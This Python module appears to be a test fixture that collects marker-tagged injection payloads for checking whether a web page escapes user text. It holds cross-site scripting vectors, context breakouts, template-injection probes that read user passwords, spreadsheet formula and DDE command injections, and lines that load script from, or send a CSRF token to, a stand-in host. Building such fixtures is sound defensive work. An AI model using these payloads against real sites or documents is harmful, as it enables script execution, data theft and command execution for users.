"""Texts that try to become something else where they are shown: elements, attributes, addresses, script, templates.

Of our own making. Each names `MARK` in whatever it smuggles, so that a page can be asked whether any of it got in:
as an element, as an attribute, as an address, as script or style, or worked out by a template.
"""

from __future__ import annotations

MARK = "zq7x"
"""In no word, address or id of our own."""
PRODUCT = 7_919 * 6_997
"""What a template that works out `SUM` would show; no page has it otherwise."""
SUM = "7919*6997"

ELEMENTS = {
    "script": f"<script>{MARK}()</script>",
    "script in capitals": f"<ScRiPt>{MARK}()</sCrIpT >",
    "script from elsewhere": f"<script src=//{MARK}.example></script>",
    "broken script": f"<scr<script>ipt>{MARK}()</scr</script>ipt>",
    "unclosed": f'<img src="{MARK}" onerror="{MARK}()"',
    "image": f"<img src=x onerror={MARK}()>",
    "image with slashes": f"<img/src=x/onerror={MARK}()/>",
    "svg": f"<svg onload={MARK}()>",
    "svg with a script": f"<svg><script>{MARK}()</script></svg>",
    "svg with a link": f'<svg><a xlink:href="javascript:{MARK}()"><text>a</text></a></svg>',
    "svg that animates": f'<svg><animate onbegin={MARK}() attributeName=x dur=1s>',
    "mathematics": f'<math href="javascript:{MARK}()">a</math>',
    "nonsense element": f"<{MARK}-element onclick={MARK}()>",
    "details": f"<details open ontoggle={MARK}()>",
    "field": f"<input autofocus onfocus={MARK}()>",
    "button": f'<button formaction="javascript:{MARK}()">Go</button>',
    "form": f'<form action="//{MARK}.example"><input name=csrfmiddlewaretoken>',
    "frame": f'<iframe src="javascript:{MARK}()"></iframe>',
    "frame with a page": f'<iframe srcdoc="<script>{MARK}()</script>"></iframe>',
    "object": f'<object data="data:text/html,<script>{MARK}()</script>">',
    "embedded": f'<embed src="data:image/svg+xml,<svg onload={MARK}()>">',
    "base": f'<base href="//{MARK}.example/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=//{MARK}.example">',
    "style": f"<style>@import '//{MARK}.example/x.css';</style>",
    "style sheet": f'<link rel="stylesheet" href="//{MARK}.example/x.css">',
    "look": f'<b style="background:url(//{MARK}.example)">a</b>',
    "template": f"<template><script>{MARK}()</script></template>",
    "marquee": f"<marquee onstart={MARK}()>",
    "video": f"<video><source onerror={MARK}()></video>",
    "htmx on": f'<b hx-on:click="{MARK}()">a</b>',
    "htmx get": f'<b hx-get="//{MARK}.example" hx-trigger="load">a</b>',
    "htmx data": f'<b data-hx-get="//{MARK}.example" data-hx-trigger="load">a</b>',
    "htmx values": f'<b hx-vals="js:{{a:{MARK}()}}" hx-post="/" hx-trigger="load">a</b>',
    "alpine": f'<b x-data x-init="{MARK}()" @click="{MARK}()" :class="{MARK}()">a</b>',
    "comment": f"<!--{MARK}--><!--><img src=x onerror={MARK}()>-->",
    "section": f"<![CDATA[<script>{MARK}()</script>]]>",
    "instruction": f'<?xml-stylesheet href="//{MARK}.example"?><{MARK}>',
}  # fmt: skip
"""Elements and attributes."""
BREAKOUTS = {
    "out of double quotes": f'" onmouseover="{MARK}()" x="',
    "out of single quotes": f"' onmouseover='{MARK}()' x='",
    "out of no quotes": f"x onmouseover={MARK}() y=",
    "out of backticks": f"` onmouseover=`{MARK}()`",
    "out of a text field": f"</textarea><img src=x onerror={MARK}()>",
    "out of a title": f"</title><img src=x onerror={MARK}()>",
    "out of a script": f"</script><img src=x onerror={MARK}()>",
    "out of a style": f"</style><img src=x onerror={MARK}()>",
    "out of a template": f"</template></noscript></select></svg><img src=x onerror={MARK}()>",
    "out of a text of a script": f"';{MARK}();//\\';{MARK}();//\";{MARK}();//",
    "out of a template string": f"${{{MARK}()}}`+{MARK}()+`",
    "out of an object": f"}}]);{MARK}();//",
    "out of a comment": f"--><img src=x onerror={MARK}()><!--",
    "out by line breaks": f"a\u2028{MARK}()\u2029//",
}
"""Ends of what a page may have put around the text."""
ADDRESSES = {
    "javascript": f"javascript:{MARK}()",
    "javascript in capitals": f"JaVaScRiPt:{MARK}()",
    "javascript behind a blank": f" javascript:{MARK}()",
    "javascript behind a sign": f"\x01javascript:{MARK}()",
    "javascript with a tab": f"java\tscript:{MARK}()",
    "javascript with a line break": f"java\nscript:{MARK}()",
    "javascript as entities": f"&#106;avascript&colon;{MARK}()",
    "javascript and a site": f"javascript://example.org/%0a{MARK}()",
    "data": f"data:text/html,<script>{MARK}()</script>",
    "data in base64": "data:text/html;base64,PHNjcmlwdD56cTd4KCk8L3NjcmlwdD4=",
    "vbscript": f"vbscript:{MARK}",
    "blob": f"blob:https://{MARK}.example/1",
    "file": f"file:///{MARK}",
    "without a scheme": f"//{MARK}.example/",
    "user name": f"https://school.example@{MARK}.example/\" onclick={MARK}()",
}  # fmt: skip
"""What a link must not lead to."""
TEMPLATES = {
    "django": "{{ 7919|add:6997 }}{% debug %}{% load static %}{% include 'base.html' %}{{ request.user.password }}",
    "django comment": "{# 7919 #}{% comment %}",
    "jinja": "{{ " + SUM + " }}{{ self.__class__ }}",
    "format": "{0.__class__} %(title)s %s %n {title} {user.password}",
    "others": "${" + SUM + "} #{" + SUM + "} <%= " + SUM + " %> [[" + SUM + "]] @(" + SUM + ")",
    "entities": f"&lt;img src=x onerror={MARK}()&gt; &amp;lt;{MARK}&amp;gt; &#60;{MARK}&#62;",
    "escapes": f"\\u003cimg src=x onerror={MARK}()\\u003e \\x3c{MARK}\\x3e %3Cscript%3E{MARK}()%3C/script%3E",
}
"""What a template, or a second reading, might work out."""
SIGNS = {
    "wide brackets": f"＜img src=x onerror={MARK}()＞ ‹script›{MARK}()‹/script›",
    "utf-7": f"+ADw-script+AD4-{MARK}()+ADw-/script+AD4-",
    "right to left": "abc \u202e>)(x7qz=rorreno x=crs gmi<\u202c \u2066\u2067\u2069 \u200f",
    "arabic and hebrew": "من بنى الجسر؟ מי בנה את הגשר? \u061c",
    "combining": "Z" + "\u0301\u0316\u0489" * 60 + "algo",
    "nothing to see": "a\u200b\u200c\u200d\u2060\ufeff\u00adb",
    "emoji": "👩🏽‍🏫🏳️‍🌈👨‍👩‍👧‍👦🇺🇳✅️ 1️⃣",
    "beyond": "𝔄𝕭𝒞 \U0001f9ff \U000e0041 \ufffd",
    "controls": "a\x08\x1b[31m\x7f\x85b",
    "spaces": "a\u00a0\u2003\u3000\x0bb",
    "lone halves": "a\ufffe\uffff b",
}
"""Signs that mislead the eye or a decoder."""
FORMULAS = {
    "formula": f"=HYPERLINK(\"//{MARK}.example\",\"a\")",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1+1)",
    "behind a tab": "\t=1+1",
    "behind a return": "\r=1+1",
    "behind a line break": "\n=1+1",
    "behind a blank": " =1+1",
    "behind a hard blank": "\u00a0=1+1",
    "wide equals": "＝1+1",
    "wide plus": "＋1+1",
    "wide minus": "－1+1",
    "wide at": "＠SUM(1+1)",
    "minus sign": "\u22121+1",
    "old": f"=cmd|' /C {MARK}'!A0",
    "quoted": '"=1+1"',
    "semicolon": ";=1+1",
}  # fmt: skip
"""What a spreadsheet would work out."""

TEXTS = ELEMENTS | BREAKOUTS | ADDRESSES | TEMPLATES | SIGNS | FORMULAS
LONG = f"<b onclick={MARK}()>" + "Langwierig" * 900
"""9,000 characters without a place to break the line."""


def joined(kinds: dict[str, str], sep: str = " ") -> str:
    """All of some texts in one."""
    return sep.join(kinds.values())


def in_pieces(most: int) -> list[str]:
    """All texts in pieces of at most `most` characters, each of them beginning with a quotation mark that ends an
    attribute, and fit for a field of one line."""
    pieces, piece = [], ""
    for text in TEXTS.values():
        shown = one_line(text)
        if piece and len(piece) + len(shown) + 3 > most:
            pieces.append(piece)
            piece = ""
        piece = f"{piece} {shown}" if piece else f'">{shown}'
    return [one[:most] for one in [*pieces, piece]]


def one_line(text: str) -> str:
    return " ".join("".join(char if char.isprintable() else " " for char in text).split())
